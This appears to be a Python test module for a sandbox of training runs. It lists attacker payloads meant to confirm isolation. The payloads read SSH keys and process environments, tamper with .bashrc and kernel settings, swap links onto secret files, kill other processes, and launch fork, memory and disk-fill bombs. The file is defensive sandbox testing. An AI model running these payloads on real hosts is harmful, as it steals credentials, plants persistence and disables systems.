"""What an attacker's Python would try; each runs for real, in the sandbox and, where that does no harm, without it.

`W` holds what the attacker knows of the host (paths, ports, process ids), never the secret itself. A payload that
reads prints what it read; one whose success can't be seen from outside prints ESCAPED. `@` before a name: there is a
control, the same code without the sandbox must succeed.
"""

PRELUDE = """
import ctypes, errno, json, mmap, os, signal, socket, stat, struct, subprocess, sys, threading, time
W = json.loads(open('world.json').read())
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    'A raw system call; its answer, or minus errno.'
    found = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    return found if found >= 0 else -ctypes.get_errno()
def show(path, most=100_000):
    with open(path, 'rb') as stream:
        sys.stdout.buffer.write(stream.read(most))
def escaped(what):
    print('ESCAPED', what, flush=True)
"""

READING = {
    "@a file of the home folder": "show(W['home'] + '/.ssh/id_ed25519')",
    "@the key in the environment of the parent": "show('/proc/%d/environ' % W['pid'])",
    "the key in the environment of every process": """
for name in os.listdir('/proc'):
    if name.isdigit():
        try: show('/proc/%s/environ' % name)
        except OSError as error: print(error)
print(dict(os.environ))""",
    "@another run": "show(W['other_run'] + '/artifacts/model.tflite')",
    "@the sealed labels of its own run": "show(W['run'] + '/data/sealed/labels.npy')",
    "@the home folder by way of the parent's root": "show('/proc/%d/root' % W['pid'] + W['home'] + '/.ssh/id_ed25519')",
    "the home folder by way of the first process's root": "show('/proc/1/root' + W['home'] + '/.ssh/id_ed25519')",
    "@the home folder by way of the parent's working folder": "show('/proc/%d/cwd/home/.ssh/id_ed25519' % W['pid'])",
    "@an open file of the parent": "show('/proc/%d/fd/%d' % (W['pid'], W['open_file']))",
    "an inherited file descriptor": """
for number in range(3, 256):
    try:
        os.lseek(number, 0, 0); print(os.read(number, 1000))
    except OSError: pass""",
    "@a file in the host's shared memory": "show(W['shared_memory'])",
    "@a file in the host's /tmp": "show(W['tmp_file'])",
    "@a System V segment": """
number = libc.shmget(W['shm_key'], 4096, 0)
if number < 0: sys.exit('none')
libc.shmat.restype = ctypes.c_void_p
print(ctypes.string_at(libc.shmat(number, None, 0), 64))""",
    "the session keyring": """
buffer = ctypes.create_string_buffer(100)
for ring in (-3, -4, -5):
    key = call(250, 10, ring, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'nanosmith-test'), 0)
    print(key, call(250, 11, key, buffer, 100), buffer.raw)""",
    "@the parent's command line": "show('/proc/%d/cmdline' % W['pid']); escaped('seen')",
    "everything that can be found": """
for folder, folders, names in os.walk('/'):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ('/usr', '/proc', *W['python'])]
    for name in names:
        path = os.path.join(folder, name)
        try: show(path) if os.path.isfile(path) and os.path.getsize(path) < 100 else None
        except OSError: pass""",
    "the kernel's memory": """
for path in ('/dev/mem', '/dev/kmem', '/dev/port', '/proc/kcore', '/proc/kmsg', '/dev/kmsg'):
    try: open(path, 'rb').read(16); escaped(path)
    except OSError as error: print(error)""",
    "disks": """
import glob
for path in glob.glob('/dev/[sv]d*') + glob.glob('/dev/nvme*') + ['/dev/loop0', '/dev/fuse', '/dev/kvm']:
    try: os.open(path, os.O_RDONLY); escaped(path)
    except OSError as error: print(error)
print(os.listdir('/dev'))""",
    "the memory of the parent by /proc": "os.open('/proc/%d/mem' % W['pid'], os.O_RDONLY); escaped('mem')",
    "the memory of the parent by process_vm_readv": """
buffer = ctypes.create_string_buffer(8)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
if call(310, W['pid'], local, 1, local, 1, 0) not in (-errno.EPERM, -errno.ESRCH): escaped('vm')
if call(310, os.getpid(), local, 1, local, 1, 0) != -errno.EPERM: escaped('the call is there')""",
    "a debugger on another process": """
for pid in (W['victim'], W['pid'], 1):
    found = call(101, 0x4206, pid, 0, 0)
    print(found)
    if found == 0: escaped(pid)""",
    "a file descriptor of the parent": """
pidfd = call(434, W['pid'], 0)
print(pidfd, call(438, pidfd, W['open_file'], 0))
own = call(434, os.getpid(), 0)
if call(438, own, 1, 0) >= 0: escaped('the call is there')""",
    "a file by its handle": """
handle = (ctypes.c_int * 40)(128)
if call(304, -100, handle, 0) != -errno.EPERM: escaped('open_by_handle_at')""",
}

WRITING = {
    "@a new file beside the run": "open(W['outside'] + '/new', 'w').write('x')",
    "@a file of the home folder": "open(W['home'] + '/.bashrc', 'a').write('evil')",
    "@through a symbolic link": "os.symlink(W['outside'], 'link'); open('link/new', 'w').write('x')",
    "@through a link in /tmp": "os.symlink(W['home'] + '/.bashrc', '/tmp/l%d' % os.getpid()); "
    "open('/tmp/l%d' % os.getpid(), 'a').write('x')",
    "@a file deleted": "os.unlink(W['home'] + '/.bashrc')",
    "@a file renamed": "os.rename(W['home'] + '/.bashrc', W['outside'] + '/stolen')",
    "@the mode of a file": "os.chmod(W['home'] + '/.bashrc', 0o777)",
    "an input": "open('given', 'r+').write('changed')",
    "an input removed": "os.unlink('given')",
    "an input made writable": "os.chmod('given', 0o666); open('given', 'w')",
    "the interpreter's library": "open(os.path.dirname(os.__file__) + '/evil.py', 'w'); escaped('written')",
    "system folders": """
for path in ('/etc/evil', '/usr/evil', '/usr/lib/evil', '/evil', '/dev/evil', '/proc/sys/kernel/hostname', '/bin/evil'):
    try: open(path, 'w').write('x'); escaped(path)
    except OSError as error: print(error)""",
    "the pattern for core dumps": "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY); escaped('core_pattern')",
    "the magic key": "os.open('/proc/sysrq-trigger', os.O_WRONLY); escaped('sysrq')",
    "other settings of the kernel": """
for folder, folders, names in os.walk('/proc/sys'):
    for name in names:
        try: os.close(os.open(os.path.join(folder, name), os.O_WRONLY)); escaped(folder + '/' + name)
        except OSError: pass""",
}

RESULTS = {
    "a symbolic link for a result": "os.unlink('out/model'); os.symlink(W['home'] + '/.ssh/id_ed25519', 'out/model')",
    "a hard link for a result": "os.unlink('out/model'); os.link(W['home'] + '/.ssh/id_ed25519', 'out/model')",
    "a link renamed over a result": "os.symlink(W['home'] + '/.ssh/id_ed25519', 'x'); os.rename('x', 'out/model')",
    "a pipe for a result": "os.unlink('out/model'); os.mkfifo('out/model')",
    "a folder for a result": "os.unlink('out/model'); os.mkdir('out/model')",
    "a link for the folder of results": "os.rename('out', 'gone'); os.symlink(W['home'] + '/.ssh', 'out')",
    "a result with a second name": "os.link('out/model', 'second')",
    "a result that is too large": "open('out/model', 'wb').write(bytes(2_000_000))",
    "a result that claims a terabyte": "os.truncate('out/model', 2**40)",
    "a result that nobody asked for": "open('out/extra', 'w').write('x')",
    "a result with the rights of its owner": "os.chmod('out/model', 0o6777); open('out/model', 'w').write('x')",
}

NETWORK = {
    "@TCP": "socket.create_connection(('127.0.0.1', W['tcp']), 2).send(b'x')",
    "@UDP": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', W['udp']))",
    "@a unix socket": "s = socket.socket(socket.AF_UNIX); s.connect(W['unix']); s.send(b'x')",
    "@an abstract socket": "s = socket.socket(socket.AF_UNIX); s.connect('\\0' + W['abstract']); s.send(b'x')",
    "DNS": "socket.getaddrinfo('example.com', 443); escaped('resolved')",
    "TCP to the world": "socket.create_connection(('1.1.1.1', 53), 2); escaped('connected')",
    "raw, packet, netlink and vsock sockets": """
for family, kind, protocol in ((2, 3, 1), (17, 3, 3), (16, 3, 0), (40, 1, 0), (38, 5, 0), (31, 3, 0)):
    found = call(41, family, kind, protocol)
    print(family, found)
    if found >= 0: escaped(family)""",
    "io_uring": "found = call(425, 8, ctypes.create_string_buffer(200)); print(found); found < 0 or escaped('ring')",
}

KERNEL = {
    "setuid to root": "os.setuid(0); os.geteuid() == 0 and open('/proc/sys/kernel/core_pattern', 'w'); escaped('root')",
    "capabilities": """
for line in open('/proc/self/status'):
    if line.startswith('Cap') and int(line.split()[1], 16): escaped(line)
    if line.startswith('NoNewPrivs') and line.split()[1] != '1': escaped(line)
    if line.startswith('Seccomp:') and line.split()[1] != '2': escaped(line)""",
    "programs with setuid": """
for name in ('su', 'mount', 'passwd', 'sudo', 'newgrp', 'chsh'):
    path = '/usr/bin/' + name
    if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
        code = "import os, sys; os.write(1, open('/proc/self/status', 'rb').read())"
        print(subprocess.run([path, '--version'], capture_output=True, timeout=10))
if any(not os.statvfs(p).f_flag & os.ST_NOSUID for p in ('/usr', '/tmp', '/nanosmith', '/dev/shm')): escaped('suid')""",
    "a new user namespace": "found = call(272, 0x10000000); print(found); found < 0 or escaped('unshare')",
    "a new mount namespace": "found = call(272, 0x00020000); print(found); found < 0 or escaped('unshare')",
    "a new namespace by clone": """
found = call(56, 0x10000000 | 17, 0, 0, 0, 0)
if found == 0: os._exit(0)
print(found); found < 0 or escaped('clone')""",
    "a new namespace by clone3": """
arguments = struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
found = call(435, ctypes.create_string_buffer(arguments), 88)
if found == 0: os._exit(0)
print(found); found == -errno.ENOSYS or escaped('clone3')""",
    "a mount": "found = call(165, b'none', b'/tmp', b'tmpfs', 0, 0); print(found); found < 0 or escaped('mount')",
    "a remount for writing": """
for path in (b'/usr', b'/', b'/proc', b'/dev'):
    found = call(165, b'none', path, b'', 0x1020, 0); print(found); found < 0 or escaped(path)""",
    "an unmount": "found = call(166, b'/nanosmith', 2); print(found); found < 0 or escaped('umount')",
    "the new mount calls": """
for number in (428, 430, 432, 442, 155):
    found = call(number, 0, 0, 0, 0, 0); print(found); found in (-errno.EPERM, -errno.ENOSYS) or escaped(number)""",
    "chroot": "os.chroot('/tmp'); escaped('chroot')",
    "a block device": "os.mknod('/tmp/disk', stat.S_IFBLK | 0o666, os.makedev(8, 0)); escaped('mknod')",
    "a character device": "os.mknod('/tmp/mem', stat.S_IFCHR | 0o666, os.makedev(1, 1)); escaped('mknod')",
    "another namespace": """
for kind in ('mnt', 'net', 'pid', 'user'):
    try: fd = os.open('/proc/1/ns/' + kind, os.O_RDONLY)
    except OSError as error: print(error); continue
    found = call(308, fd, 0); print(found); found < 0 or escaped(kind)""",
    "keyrings, bpf, perf, userfaultfd": """
for number in (248, 249, 250, 321, 298, 323):
    found = call(number, 0, 0, 0, 0, 0); print(found); found == -errno.EPERM or escaped(number)""",
    "modules, kexec, reboot, swap, clocks": """
for number in (175, 313, 176, 246, 320, 169, 167, 168, 227, 164, 163, 103):
    found = call(number, 0, 0, 0, 0, 0); print(found); found == -errno.EPERM or escaped(number)""",
    "memory that is not counted": """
for number in (319, 29, 64, 68, 240):
    found = call(number, b'x', 0, 0, 0); print(found); found == -errno.EPERM or escaped(number)""",
    "typing into the user's terminal": """
import fcntl
for request in (0x5412, 0x5412 | 1 << 32):
    found = call(16, 0, request, b'x'); print(found); found == -errno.EPERM or escaped('TIOCSTI')
try: os.open('/dev/tty', os.O_RDWR); escaped('tty')
except OSError as error: print(error)""",
    "the calls of another architecture": """
code = mmap.mmap(-1, 4096, prot=7)  # mov eax, 20 (getpid); int 0x80; ret
code.write(bytes([0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xc3]))
run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
print(run()); escaped('int 0x80')""",
    "the x32 calls": "found = call(0x40000000 | 39); escaped(found)",
    "more open files": """
import resource
for name in ('RLIMIT_NOFILE', 'RLIMIT_NPROC', 'RLIMIT_DATA', 'RLIMIT_FSIZE', 'RLIMIT_CPU', 'RLIMIT_CORE'):
    hard = resource.getrlimit(getattr(resource, name))[1]
    try: resource.setrlimit(getattr(resource, name), (hard + 1, hard + 1)); escaped(name)
    except (ValueError, OSError, OverflowError) as error: print(error)""",
}

SIGNALS = {
    "@a signal to another process": "os.kill(W['victim'], signal.SIGKILL)",
    "@a signal to another process's group": "os.killpg(W['victim'], signal.SIGKILL)",
    "a signal to everybody": "os.kill(-1, signal.SIGKILL)",
    "a signal to the parent": "os.kill(os.getppid(), signal.SIGKILL); os.kill(W['pid'], signal.SIGKILL)",
    "another process's priority": "os.setpriority(os.PRIO_PROCESS, W['victim'], 19); escaped('nice')",
    "another process's limits": "import resource; resource.prlimit(W['victim'], resource.RLIMIT_CPU, (1, 1)); "
    "escaped('prlimit')",
}

RESOURCES = {
    # name: (code, how it ends)
    "a fork bomb": ("while True:\n try: os.fork()\n except OSError: pass", "CommandTimedOut"),
    "a thread bomb": (
        "while True:\n try: threading.Thread(target=time.sleep, args=(99,)).start()\n except RuntimeError: pass",
        "CommandTimedOut",
    ),
    "a memory bomb": ("b = [bytearray(2**22) for _ in range(10_000)]", "CommandFailed MemoryExceeded"),
    "a memory bomb of many processes": (
        "for _ in range(20):\n if not os.fork(): b = bytearray(100_000_000); time.sleep(60)\ntime.sleep(60)",
        "MemoryExceeded",
    ),
    "a memory bomb of shared pages": (
        "m = mmap.mmap(-1, 2**30)\nfor i in range(0, 2**30, 4096): m[i] = 1\ntime.sleep(60)",
        "MemoryExceeded",
    ),
    "shared memory filled": ("open('/dev/shm/x', 'wb').write(bytes(300 * 2**20))", "CommandFailed MemoryExceeded"),
    "the working folder filled": (
        "for i in range(100): open(str(i), 'wb').write(bytes(2**22))",
        "CommandFailed MemoryExceeded",
    ),
    "disk filled by files without a name": (
        "f = [open('/tmp/x', 'wb') for _ in range(99) if not os.path.exists('/tmp/x') or not os.unlink('/tmp/x')]\n"
        "for s in f: s.write(bytes(2**22)); s.flush()\nescaped('400 MB')",
        "CommandFailed MemoryExceeded",
    ),
    "a result without end": (
        "s = open('out/model', 'wb')\nwhile True: s.write(bytes(2**20)); s.flush()",
        "CommandFailed",
    ),
    "folders without end": (
        "n = 0\nwhile True:\n os.makedirs('/tmp/%d' % n); n += 1",
        "CommandTimedOut CommandFailed MemoryExceeded",
    ),
    "a flood": ("while True: print('x' * 10_000)", "OutputTooLarge"),
    "a flood on the other stream": ("while True: sys.stderr.write('x' * 10_000)", "OutputTooLarge"),
    "a line without end": ("while True: sys.stdout.write('x' * 10_000); sys.stdout.flush()", "OutputTooLarge"),
    "an endless loop": ("while True: pass", "CommandTimedOut"),
    "a loop that no signal ends": (
        "for n in range(1, 32):\n try: signal.signal(n, signal.SIG_IGN)\n except (OSError, ValueError): pass\n"
        "while True: pass",
        "CommandTimedOut",
    ),
    "a process that stops itself": ("os.kill(os.getpid(), signal.SIGSTOP)", "CommandTimedOut"),
    "streams closed and on": ("for n in range(3): os.close(n)\ntime.sleep(60)", "CommandTimedOut"),
    "a daemon": (
        "if not os.fork():\n os.setsid()\n if not os.fork():\n  os.closerange(0, 9)\n  time.sleep(77.25)\nos._exit(0)",
        "SandboxFinished",
    ),
}
